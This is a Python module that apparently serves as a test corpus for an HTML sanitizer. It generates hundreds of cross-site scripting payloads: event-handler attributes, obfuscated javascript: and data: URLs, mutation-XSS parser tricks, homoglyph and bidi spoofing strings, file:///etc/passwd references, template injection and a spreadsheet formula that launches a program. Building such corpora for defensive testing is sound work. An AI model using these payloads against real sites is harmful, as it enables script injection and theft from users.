"""What people have tried in order to run a script in somebody else's page: more than 300 pieces of HTML."""

from collections.abc import Iterator
from itertools import product

_TAGS = """script style svg math iframe object embed applet form input button select option textarea link meta base frame
frameset noscript template marquee video audio source track canvas details summary dialog isindex keygen plaintext
xmp listing noembed noframes foreignobject animate set use image title body html head bgsound layer ilayer portal
custom-element slot xml comment nobr picture area map param menuitem"""
TAGS = _TAGS.split()
_HANDLERS = """onclick onerror onload onmouseover onfocus onblur ontoggle onanimationstart ontransitionend onpointerdown onbegin
onstart onwheel onscroll onpaste oncopy onbeforeprint onhashchange onmessage onsubmit onauxclick oninput formaction
srcdoc style autofocus tabindex contenteditable id name is slot xlink:href background dynsrc lowsrc ping poster"""
HANDLERS = _HANDLERS.split()
CARRIERS = ("p", "a href=/x", "img src=x", "td", "svg", "strong", "h2", "li")
ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java&#10;script:alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "javascript&colon;alert(1)",
    "\x01javascript:alert(1)", "javascript\u200b:alert(1)", "\u202ejavascript:alert(1)", "ｊavascript:alert(1)",
    "javascript://%0aalert(1)", "vbscript:msgbox(1)", "livescript:x", "mocha:x", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>",
    "blob:https://a/b", "filesystem:http://a/b", "file:///etc/passwd", "view-source:x", "about:blank", "jar:http://a!/b",
    "feed:javascript:alert(1)", "//evil.example/x", "/\\evil.example", "\\\\evil.example\\x", "http:\\\\evil.example",
    "http://a@evil.example/", "https:evil.example", "http:/evil.example", "mailto:a@b.c?bcc=x@y.z&body=<script>",
    "tel:110", "sms:1", "weixin://x", "intent://x#Intent;end", "ms-word:ofe|u|http://a", "x:y", "HTTP://[::1]/",
    "http://еvil.example/", "http://a.b/\"onmouseover=alert(1)", "http://a.b/'onmouseover='alert(1)",
    "http://a.b/`", "http://a.b/<script>", "#\"><script>alert(1)</script>", "?a=\u202e", "./a:b", "a:b", "javascript:/**/alert(1)",
)  # fmt: skip
MUTATIONS = (
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--!><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<?xml-stylesheet href='javascript:alert(1)'?><p>x",
    "<p title='<'onclick=alert(1)//>x",
    "<img src=\"x\"`<script>alert(1)</script>\"`>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT/XSS SRC=x></SCRIPT>",
    "<script\x0csrc=x></script>",
    "<script\x00>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    "<a href=\"x\"\x00onclick=alert(1)>x",
    "<div style=\"background:url(javascript:alert(1))\">x",
    "<div style=\"width:expression(alert(1))\">x",
    "<p style=\"behavior:url(x.htc)\">x",
    "<p style='-moz-binding:url(x)'>x",
    "<table background=javascript:alert(1)><td>x",
    "<input type=image src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=/x target=_blank rel=opener>x</a>",
    "<a href='/x' download='x.exe'>x</a>",
    "<p class='center\" onclick=alert(1)'>x",
    "<p class='center modal htmx-request'>x",
    "<p id=location>x<p name=cookie>y",
    "<p hx-get=/delete hx-trigger=load data-controller=x>x",
    "<ol start='1\" onclick=alert(1)'><li>x",
    "<td colspan='1;alert(1)'>x",
    "<table><tr><td colspan=99999999 rowspan=99999999>x",
    "<th scope='row\" onclick=alert(1)'>x",
    "<img src=file:../../etc/passwd>",
    "<img src='file:" + "a" * 63 + "'>",
    "<img src='file:" + "a" * 64 + "' alt='\"><script>alert(1)</script>'>",
    "<img src='file:" + "A" * 64 + "'>",
    "<img src='file:" + "a" * 64 + "#x' srcset='http://evil/x 2x'>",
    "<a href='file:" + "a" * 64 + "'>x</a>",
    "x\u202egnp.exe\u202c y", "a\u200bd\u00admin", "раураl", "\u2066x\u2069", "\U000e0041\U000e0042x", "\ufffex\ud800y",
    "&lt;script&gt;alert(1)&lt;/script&gt;", "&#x3c;script&#x3e;alert(1)", "&amp;lt;script&amp;gt;",
    "＜script＞alert(1)＜/script＞",
    "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "<% alert(1) %>", "=cmd|'/c calc'!A1", "javascript:alert(1)",
)  # fmt: skip


def payloads() -> Iterator[str]:
    yield from MUTATIONS
    for tag in TAGS:
        yield f"<p>前<{tag} src=x href=javascript:alert(1) onload=alert(1) onerror=alert(1)>alert(1)</{tag}>后</p>"
        yield f"<{tag}><img src=x onerror=alert(1)></{tag}>"
    for carrier, handler in product(CARRIERS, HANDLERS):
        yield f"<{carrier} {handler}=alert(1)>x</{carrier.split()[0]}>"
    for address in ADDRESSES:
        yield f'<a href="{address}">x</a>'
        yield f"<img src='{address}'><form action='{address}'><q cite='{address}'>x</q></form>"
